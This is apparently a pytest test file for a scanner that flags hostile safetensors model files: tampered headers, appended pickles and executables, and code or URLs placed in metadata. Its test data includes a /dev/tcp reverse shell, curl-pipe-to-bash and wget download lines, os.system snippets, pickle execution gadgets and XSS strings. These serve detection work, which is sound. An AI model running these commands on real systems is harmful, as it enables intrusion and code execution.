"""safetensors: header-only reader and the HEX-SFT rules.

Benign files are written by the safetensors library; every hostile variant is built here from
those bytes (harmless payloads only: ``echo``, ``id``; nothing is ever loaded).
"""

from __future__ import annotations

import base64
import io
import json
import random
import struct
import tracemalloc
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from conftest import run_hex
from safetensors.numpy import save, save_file

from hexscan.discover.artifact import Artifact
from hexscan.engine.limits import ResourceLimits
from hexscan.formats.identify import identify
from hexscan.formats.kinds import Format
from hexscan.model.finding import Finding
from hexscan.model.severity import Severity
from hexscan.parsers.safetensors import parse_safetensors
from hexscan.scanners.base import ScanContext
from hexscan.scanners.safetensors import SafetensorsScanner

TENSORS = {"embed.weight": np.arange(24, dtype=np.float32).reshape(4, 6),
           "bias": np.ones(5, dtype=np.float16), "ids": np.arange(3, dtype=np.int64),
           "flags": np.array([True, False]), "empty": np.zeros((0, 3), np.float32)}
#: Metadata shapes seen on the Hub (transformers, kohya-ss LoRA, modelspec, diffusers).
BENIGN_METADATA = [
    {"format": "pt"},
    {"format": "np", "total_size": "123456"},
    {"ss_network_module": "networks.lora", "ss_optimizer": "bitsandbytes.optim.adamw.AdamW8bit"
     "(weight_decay=0.01)", "ss_tag_frequency": json.dumps({"img": {"1girl": 12, "solo": 3}}),
     "ss_sd_model_name": "v1-5-pruned.safetensors", "ss_training_comment": "trained on "
     "my own pictures; see https://huggingface.co/me/lora", "ss_lr_scheduler": "cosine",
     "sshs_model_hash": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
    {"modelspec.architecture": "stable-diffusion-xl-v1-base/lora",
     "modelspec.title": "My LoRA", "modelspec.thumbnail": "data:image/png;base64," +
     base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4).decode(),
     "modelspec.description": "A <b>bold</b> model, trained for 10 epochs."},
    {"license": "apache-2.0", "source": "https://github.com/org/repo", "author": "ML Team",
     "description": "Trained with import-free code; evaluation accuracy 94.5%"},
]


def _scan(data: bytes, name: str = "model.safetensors") -> list[Finding]:
    ident = identify(name, data[:65536], len(data))
    art = Artifact(name, name, None, len(data), lambda: io.BytesIO(data))
    return list(SafetensorsScanner().scan(art, ScanContext(ident, ResourceLimits())))


def _split(data: bytes) -> tuple[dict[str, Any], bytes]:
    n = struct.unpack("<Q", data[:8])[0]
    return json.loads(data[8:8 + n]), data[8 + n:]


def _build(header: dict[str, Any] | str | bytes, body: bytes) -> bytes:
    raw = header if isinstance(header, bytes) else (
        header if isinstance(header, str) else json.dumps(header)).encode()
    return struct.pack("<Q", len(raw)) + raw + body


def _with_metadata(metadata: dict[str, Any]) -> bytes:
    header, body = _split(save(TENSORS))
    header["__metadata__"] = metadata
    return _build(header, body)


def rules_of(findings: list[Finding]) -> dict[str, Severity]:
    out: dict[str, Severity] = {}
    for f in findings:
        out[f.rule.id] = max(out.get(f.rule.id, Severity.INFO), f.effective_severity)
    return out


def serious(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.effective_severity >= Severity.MEDIUM]


# ---------------------------------------------------------------------------- benign


@pytest.mark.parametrize("metadata", BENIGN_METADATA, ids=lambda m: next(iter(m)))
def test_library_files_are_clean(metadata: dict[str, str]) -> None:
    data = save(TENSORS, metadata=metadata)
    assert serious(_scan(data)) == [], _scan(data)


def test_reader_matches_the_library() -> None:
    data = save(TENSORS, metadata={"format": "pt"})
    view = parse_safetensors(io.BytesIO(data), len(data))
    assert view.issues == () and view.trailing is None and view.gaps == ()
    assert {t.name: (t.dtype, t.shape) for t in view.tensors} == {
        "embed.weight": ("F32", (4, 6)), "bias": ("F16", (5,)), "ids": ("I64", (3,)),
        "flags": ("BOOL", (2,)), "empty": ("F32", (0, 3))}
    assert dict(view.metadata) == {"format": "pt"}


def test_torch_file_end_to_end(tmp_path: Path) -> None:
    import torch
    from safetensors.torch import save_file as save_torch

    save_torch({"w": torch.zeros(3, 3, dtype=torch.bfloat16)}, str(tmp_path / "a.safetensors"),
               metadata={"format": "pt"})
    save_file(TENSORS, str(tmp_path / "b.safetensors"))
    evil = _with_metadata({"format": "pt", "init": "import os; os.system('echo hi')"})
    (tmp_path / "evil.safetensors").write_bytes(evil)
    report = run_hex("scan", str(tmp_path), "--json", "--workers", "0").json()
    bad = {Path(r["file_path"]).name for r in report["results"]
           if r["severity"] in ("MEDIUM", "HIGH", "CRITICAL")}
    assert bad == {"evil.safetensors"}
    assert any(r["rule_id"] == "HEX-SFT-008" for r in report["results"])


# ---------------------------------------------------------------------------- structure


def _layout(mutate: Any) -> list[Finding]:
    header, body = _split(save(TENSORS))
    body = mutate(header, body) or body
    return _scan(_build(header, body))


def test_header_length_past_the_file() -> None:
    data = save(TENSORS)
    found = rules_of(_scan(struct.pack("<Q", len(data) * 2) + data[8:]))
    assert found == {"HEX-SFT-001": Severity.MEDIUM}


def test_truncated_file_is_identified_and_reported() -> None:
    data = save(TENSORS)[:60]
    assert identify("model.safetensors", data, len(data)).format is Format.SAFETENSORS
    assert "HEX-SFT-001" in rules_of(_scan(data))
    assert "HEX-SFT-001" in rules_of(_scan(b"\x01\x00"))


def test_header_too_large_is_not_allocated() -> None:
    data = struct.pack("<Q", 1 << 62) + b"{" + b" " * 100
    tracemalloc.start()
    found = rules_of(_scan(data))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert found["HEX-SFT-002"] == Severity.MEDIUM
    assert peak < 8 << 20


@pytest.mark.parametrize("header", [b"\xff\xfe{}", b"{not json", b"[1, 2]", b'{"a": 1}',
                                    b'{"a": {"dtype": "F32"}}', b"{" * 100000])
def test_malformed_headers(header: bytes) -> None:
    found = rules_of(_scan(_build(header, b"")))
    assert found.keys() & {"HEX-SFT-001", "HEX-SFT-004"}


def test_duplicate_keys() -> None:
    header, body = _split(save(TENSORS, metadata={"format": "pt"}))
    raw = json.dumps(header)[1:]
    twice = '{"bias": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, ' + raw
    meta = twice.replace('"format": "pt"', '"format": "pt", "format": "pt"')
    assert rules_of(_scan(_build(meta, body)))["HEX-SFT-003"] == Severity.HIGH


@pytest.mark.parametrize(("field", "value"), [
    ("dtype", "F128"), ("shape", [-1, 6]), ("shape", [4.0, 6]), ("shape", "4x6"),
    ("data_offsets", [10, 5]), ("data_offsets", [0]), ("data_offsets", [0, -1]),
])
def test_invalid_entries(field: str, value: Any) -> None:
    def mutate(header: dict[str, Any], body: bytes) -> None:
        header["embed.weight"][field] = value
    assert "HEX-SFT-004" in rules_of(_layout(mutate))


def _shift(name: str, delta: int) -> Any:
    def mutate(header: dict[str, Any], body: bytes) -> None:
        header[name]["data_offsets"] = [o + delta for o in header[name]["data_offsets"]]
    return mutate


def test_size_mismatch() -> None:
    def mutate(header: dict[str, Any], body: bytes) -> None:
        header["embed.weight"]["shape"] = [4, 7]
    found = _layout(mutate)
    assert rules_of(found)["HEX-SFT-005"] == Severity.MEDIUM
    assert "needs" in found[0].message


def test_overlap_and_out_of_range() -> None:
    found = _layout(_shift("bias", -2))
    assert any(f.evidence.get("kind") == "overlap" for f in found)
    found = _layout(_shift("bias", 10_000))
    assert any(f.evidence.get("kind") == "out-of-range" for f in found)


def test_gap_holding_a_payload() -> None:
    elf = b"\x7fELF\x02\x01\x01" + bytes(57)

    def mutate(header: dict[str, Any], body: bytes) -> bytes:
        end = max(v["data_offsets"][1] for k, v in header.items() if k != "__metadata__")
        for key, value in header.items():
            if key != "__metadata__" and value["data_offsets"][0] > 0:
                value["data_offsets"] = [o + len(elf) for o in value["data_offsets"]]
        first = min((v for k, v in header.items() if k != "__metadata__"),
                    key=lambda v: v["data_offsets"][0])
        cut = first["data_offsets"][1]
        return body[:cut] + elf + body[cut:end]
    found = [f for f in _layout(mutate) if f.evidence.get("kind") == "gap"]
    assert found and found[0].effective_severity is Severity.HIGH
    assert found[0].evidence["payload"] == ["elf"]


@pytest.mark.parametrize(("extra", "severity"), [
    (b"\x00" * 16, Severity.MEDIUM),
    (b"\x80\x04\x95" + bytes(20), Severity.HIGH),
    (b"PK\x03\x04" + bytes(30), Severity.HIGH),
    (b"\x7fELF" + bytes(60), Severity.HIGH),
])
def test_trailing_bytes(extra: bytes, severity: Severity) -> None:
    found = rules_of(_scan(save(TENSORS) + extra))
    assert found == {"HEX-SFT-006": severity}


def test_metadata_must_be_strings() -> None:
    found = rules_of(_scan(_with_metadata({"format": "pt", "epochs": 3, "cfg": {"a": [1]}})))
    assert found == {"HEX-SFT-007": Severity.MEDIUM}
    found = rules_of(_scan(_with_metadata(["not", "a", "map"])))  # type: ignore[arg-type]
    assert "HEX-SFT-007" in found


# ---------------------------------------------------------------------------- metadata


@pytest.mark.parametrize(("value", "severity"), [
    ("import os; os.system('echo pwned')", Severity.HIGH),
    ("__import__('os').popen('id')", Severity.HIGH),
    ("exec(compile('print(1)', 'x', 'exec'))", Severity.HIGH),
    ("import subprocess\nsubprocess.run(['id'])", Severity.HIGH),
    ("rm -rf /tmp/x && wget http://example.invalid/p", Severity.HIGH),
    ("curl -s http://example.invalid/i.sh | bash", Severity.HIGH),
    ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", Severity.HIGH),
    ("pickle.loads(blob)", Severity.HIGH),
    ("import base64\nprint(base64.b64decode('aGk='))", Severity.MEDIUM),
    ("chmod +x ./run ", Severity.MEDIUM),
    (base64.b64encode(b"import os; os.system('id')").decode(), Severity.HIGH),
    ((b"__import__('os').system('id')").hex(), Severity.HIGH),
    ("".join(f"\\x{b:02x}" for b in b"os.system('id')"), Severity.HIGH),
])
def test_code_in_metadata(value: str, severity: Severity) -> None:
    found = rules_of(_scan(_with_metadata({"format": "pt", "note": value})))
    assert found.get("HEX-SFT-008") == severity, found


def _protocol0_payload() -> bytes:
    return b"cos\nsystem\n(S'echo hi'\ntR."


def _protocol2_payload() -> bytes:
    return b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."


@pytest.mark.parametrize(("encode", "severity"), [
    (lambda b: b.decode("latin-1"), Severity.CRITICAL),
    (lambda b: base64.b64encode(b).decode(), Severity.CRITICAL),
    (lambda b: b.hex(), Severity.CRITICAL),
])
@pytest.mark.parametrize("payload", [_protocol0_payload, _protocol2_payload])
def test_embedded_pickles(encode: Any, severity: Severity, payload: Any) -> None:
    found = rules_of(_scan(_with_metadata({"format": "pt", "state": encode(payload())})))
    assert found.get("HEX-SFT-009") == severity, found


def test_embedded_benign_pickle_is_medium() -> None:
    import pickle

    blob = base64.b64encode(pickle.dumps({"lr": 0.1, "betas": [0.9, 0.99]}, protocol=4))
    found = rules_of(_scan(_with_metadata({"format": "pt", "optim": blob.decode()})))
    assert found == {"HEX-SFT-009": Severity.MEDIUM}


@pytest.mark.parametrize(("blob", "kind"), [
    (b"\x7fELF\x02\x01\x01\x00" + bytes(120), "elf"),
    (b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\x00\x00" + bytes(60), "pe"),
    (b"\xcf\xfa\xed\xfe" + bytes(60), "mach-o-64-le"),
])
def test_embedded_executables(blob: bytes, kind: str) -> None:
    data = _with_metadata({"format": "pt", "blob": base64.b64encode(blob).decode()})
    found = [f for f in _scan(data) if f.rule.id == "HEX-SFT-010"]
    assert found and found[0].effective_severity is Severity.HIGH
    assert found[0].evidence["payload"] == kind


def test_shebang_script_in_metadata() -> None:
    found = rules_of(_scan(_with_metadata({"hook": "#!/bin/sh\necho hi\n"})))
    assert found.get("HEX-SFT-010") == Severity.HIGH


@pytest.mark.parametrize(("key", "url", "severity"), [
    ("callback_url", "http://example.invalid/exfiltrate", Severity.MEDIUM),
    ("download", "https://example.invalid/payload", Severity.MEDIUM),
    ("mirror", "http://192.0.2.7/model", Severity.MEDIUM),
    ("mirror", "https://example.invalid:8443/model", Severity.MEDIUM),
    ("setup", "https://example.invalid/install.sh", Severity.MEDIUM),
    ("homepage", "https://example.invalid/about", Severity.LOW),
])
def test_urls(key: str, url: str, severity: Severity) -> None:
    found = rules_of(_scan(_with_metadata({"format": "pt", key: url})))
    assert found == {"HEX-SFT-011": severity}


def test_trusted_hosts_are_not_reported() -> None:
    data = _with_metadata({"source": "https://huggingface.co/org/model/resolve/main/x"})
    assert _scan(data) == []


@pytest.mark.parametrize("value", [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "<iframe src='https://example.invalid'>",
])
def test_markup(value: str) -> None:
    found = rules_of(_scan(_with_metadata({"format": "pt", "card": value})))
    assert found.get("HEX-SFT-012") == Severity.MEDIUM


# ---------------------------------------------------------------------------- fuzzing


def test_fuzzed_files_never_raise() -> None:
    """Seeded truncations, bit flips, overwrites and hostile lengths: findings, no exception."""
    rng = random.Random(20240512)  # noqa: S311 - seeded fuzzing
    base = [save(TENSORS, metadata=m) for m in BENIGN_METADATA[:3]]
    base.append(_with_metadata({"x": base64.b64encode(_protocol2_payload()).decode()}))
    for _ in range(3000):
        data = bytearray(rng.choice(base))
        op = rng.random()
        if op < 0.25:
            data = data[:rng.randint(0, len(data))]
        elif op < 0.5:
            for _ in range(rng.randint(1, 8)):
                pos = rng.randrange(len(data))
                data[pos] ^= 1 << rng.randrange(8)
        elif op < 0.7:
            n = struct.unpack("<Q", data[:8])[0]
            pos = rng.randrange(8, 8 + n)
            data[pos:pos + 1] = bytes([rng.choice(b'{}[]",:0123456789-eE\\ "')])
        elif op < 0.85:
            data[:8] = struct.pack("<Q", rng.choice([0, 1, 2, 7, len(data), 1 << 63,
                                                     (1 << 64) - 1, rng.getrandbits(64)]))
        else:
            pos = rng.randrange(len(data))
            data[pos:pos] = rng.randbytes(rng.randint(1, 64))
        _scan(bytes(data))


def test_sparse_huge_file_is_read_header_only(tmp_path: Path) -> None:
    path = tmp_path / "huge.safetensors"
    header = {"w": {"dtype": "F32", "shape": [1 << 30], "data_offsets": [0, 4 << 30]}}
    raw = json.dumps(header).encode()
    with open(path, "wb") as handle:
        handle.write(struct.pack("<Q", len(raw)) + raw)
        handle.truncate(8 + len(raw) + (4 << 30))
    art = Artifact.from_file(str(path), "huge.safetensors")
    ident = identify(art.name, art.head(), art.size or 0)
    found = list(SafetensorsScanner().scan(art, ScanContext(ident, ResourceLimits())))
    assert found == []
